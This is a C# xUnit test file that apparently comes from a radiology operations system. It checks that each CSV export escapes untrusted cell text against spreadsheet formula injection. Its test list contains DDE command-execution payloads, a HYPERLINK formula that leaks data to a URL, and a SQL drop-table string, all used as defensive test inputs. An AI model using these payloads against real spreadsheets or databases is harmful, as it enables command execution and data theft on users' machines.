using RadOps.Core;
using RadOps.Core.Audit;
using RadOps.Core.Audit.Disclosures;
using RadOps.Core.Audit.Exemptions;
using RadOps.Core.Audit.Samples;
using RadOps.Core.Continuity.Downtime;
using RadOps.Core.Continuity.Reports;
using RadOps.Core.Identity;
using RadOps.Core.Release;
using RadOps.Formats.Csv;
using RadOps.Tests.Shared;
using Xunit;

namespace RadOps.Formats.Tests.Csv;

/// <summary>What anybody may have written, in every cell of every CSV file that is written, opened in a spreadsheet: it is shown, whole, and never run.</summary>
public sealed class HostileSheetTests
{
    private static readonly DateTimeOffset at = new(2026, 11, 24, 9, 0, 0, TimeSpan.FromHours(1));

    /// <summary>Every source file that writes CSV. The template's cells are RadOps' own words.</summary>
    private static readonly Dictionary<string, Func<string, byte[]>?> writers = new()
    {
        ["AuditCsv"] = text => Written(file => AuditCsv.Write([Finding(text)], file)),
        ["DisclosureCsv"] = text => Written(file => DisclosureCsv.Write(Account(text), file, TimeZoneInfo.Utc)),
        ["OutageReportCsv"] = text => Written(file => OutageReportCsv.Write(Outage(text), file)),
        ["ReviewSheetCsv"] = text => Written(file => ReviewSheetCsv.Write(Sample(text), file)),
        ["CsvResultWriter"] = text => Written(file =>
        {
            using var sheet = CsvSheetWriter.ForPipe(file);
            sheet.Row("A", "B", "C");
            sheet.Cell(text).Cell("mellan").Cell(text).EndRow();
        }),
        ["RequestTemplate"] = null,
    };

    private static readonly string[] hostile =
    [
        "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "\r\n=1+1", "=cmd|'/c calc'!A1", "=DDE(\"cmd\";\"/c calc\";\"x\")", "=HYPERLINK(\"http://example.org?\"&A1;\"klicka\")", "\"=1+1", "=\"a\";\"b\"", "-", "=",
        "a;b", "a\"b", "\"", "\"\"", ";", "a\r\nb", "a\nb", "a\rb", "a;=1+1", "a\"\r\n=1+1;\"", "a\t=1+1", "＝1+1", "＋1", "－1", "＠A", "'=1+1", "--1", "-1-1", "+46 70 123", "-abc", "{0} %s '; drop table events; --", "å ä ö 😀",
    ];

    public static TheoryData<string> Names => [.. writers.Where(writer => writer.Value is not null).Select(writer => writer.Key)];

    [Theory, MemberData(nameof(Names))]
    public void Nothing_that_somebody_wrote_is_run(string name)
    {
        var write = writers[name]!;
        var ordinary = Sheet.Read(write("vanligt"));
        var places = ordinary.SelectMany((row, index) => row.Select((cell, column) => (index, column, cell))).Where(cell => cell.cell.Contains("vanligt", StringComparison.Ordinal)).ToList();
        Assert.NotEmpty(places);
        foreach (var text in hostile)
        {
            var rows = Sheet.Read(write(text));
            Assert.Equal(ordinary.Select(row => row.Count), rows.Select(row => row.Count));
            Assert.All(rows.SelectMany(row => row), cell => Assert.False(Sheet.IsRun(cell), $"{name} runs {cell}"));
            Assert.All(places, place => Assert.Contains(text.Trim(), rows[place.index][place.column], StringComparison.Ordinal));
        }
    }

    [Theory]
    [InlineData("-1")]
    [InlineData("-12.5")]
    [InlineData("-0,25")]
    public void A_number_below_zero_stays_a_number(string number)
    {
        var file = Written(stream =>
        {
            using var sheet = CsvSheetWriter.ForFile(stream, leaveOpen: true);
            sheet.Row("A");
            sheet.Row(number);
        });
        Assert.Equal(number, Sheet.Read(file)[1][0]);
    }

    /// <summary>What a department writes in a sheet of RadOps' and hands back is what it wrote.</summary>
    [Fact]
    public void What_RadOps_wrote_it_reads_as_it_was()
    {
        foreach (var text in hostile.Where(text => text.Trim().Length > 0))
        {
            var file = Written(stream =>
            {
                using var sheet = CsvSheetWriter.ForFile(stream, leaveOpen: true);
                sheet.Row("Code", "Who", "Why", "Until");
                sheet.Row("X", text, "därför", "2026-12-31");
            });
            var path = Path.GetTempFileName();
            try
            {
                File.WriteAllBytes(path, file);
                Assert.Equal(text.Trim(), ExemptionCsv.Read(path).Single().Who);
            }
            finally
            {
                File.Delete(path);
            }
        }
    }

    [Fact]
    public void No_file_that_writes_csv_is_left_out()
    {
        var sources = Directory.EnumerateFiles(RepositoryFile.Find("src"), "*.cs", SearchOption.AllDirectories).Where(path => !path.Contains($"{Path.DirectorySeparatorChar}obj{Path.DirectorySeparatorChar}", StringComparison.Ordinal)).ToDictionary(path => path, File.ReadAllText);
        Assert.Equal(writers.Keys.Order(StringComparer.Ordinal), sources.Where(source => source.Value.Contains("CsvSheetWriter.For", StringComparison.Ordinal)).Select(source => Path.GetFileNameWithoutExtension(source.Key)).Order(StringComparer.Ordinal));
        // And nobody writes by the library itself.
        Assert.Equal(["CsvSheetWriter"], sources.Where(source => source.Value.Contains("CsvWriter.Create(", StringComparison.Ordinal) || source.Value.Contains("new CsvWriter(", StringComparison.Ordinal)).Select(source => Path.GetFileNameWithoutExtension(source.Key)));
    }

    private static byte[] Written(Action<Stream> write)
    {
        using var stream = new MemoryStream();
        write(stream);
        return stream.ToArray();
    }

    private static AuditFinding Finding(string text) => new()
    {
        Severity = FindingSeverity.Error,
        Code = text,
        Message = text,
        Rules = [text],
        Quote = text,
        ExportId = text,
        RequestId = text,
        Organisation = text,
        Occurred = at,
        AgeDays = -1,
        Operator = text,
        Exemption = new AuditExemption(2, text, text, text, text, text, text, new DateOnly(2026, 12, 31)),
    };

    private static DisclosureReport Account(string text) => new()
    {
        PatientId = PatientId.Parse("191212121212", new(2026, 1, 1)),
        PatientName = text,
        PatientNumber = text,
        At = at,
        Operator = text,
        CareUnit = text,
        Disclosures = [new() { ExportId = text, When = at, Examination = text, ExaminationDate = new(2026, 6, 8), What = text, ToWhom = text, How = text, Why = text, By = text, CareUnit = text, Remark = text }],
        Log = [],
    };

    private static OutageReport Outage(string text) => new()
    {
        At = at,
        Drill = true,
        Outages = [],
        Started = at,
        Stopped = at.AddHours(2),
        Timeline = [new(at, text, text, text, text)],
        Items = [new() { Number = text, Kind = DowntimeItemKind.Referral, Drill = true, Occurred = at, Patient = text, RegisteredBy = text, Completed = at, CompletedBy = text, ConfirmedBy = text, AccessionNumber = text }],
        Clocks = [new(text, at, true)],
        Scores = [new(text, 1, 3, TimeSpan.FromMinutes(3), text)],
    };

    private static AuditSample Sample(string text) => new()
    {
        Period = text,
        First = new(2026, 10, 1),
        Last = new(2026, 10, 31),
        Drawn = at,
        DrawnBy = text,
        Seed = text,
        Method = text,
        Population = 4,
        PopulationSha256 = text,
        Through = 4,
        Size = 1,
        Proof = SampleProof.Proved,
        Releases =
        [
            new()
            {
                Period = text,
                ExportId = text,
                Occurred = at,
                Operator = text,
                CareUnit = text,
                Recipient = RecipientType.Hospital,
                Risk = ReleaseRisk.High,
                Reasons = [text],
                RegisterLine = text,
                Images = true,
                Report = true,
                Consent = ConsentForm.Written,
                Rules = [text],
                Outcome = ReviewOutcome.FollowUp,
                By = text,
                ReviewedBy = text,
                Reviewed = at,
                Comment = text,
                Reference = text,
            },
        ],
    };
}
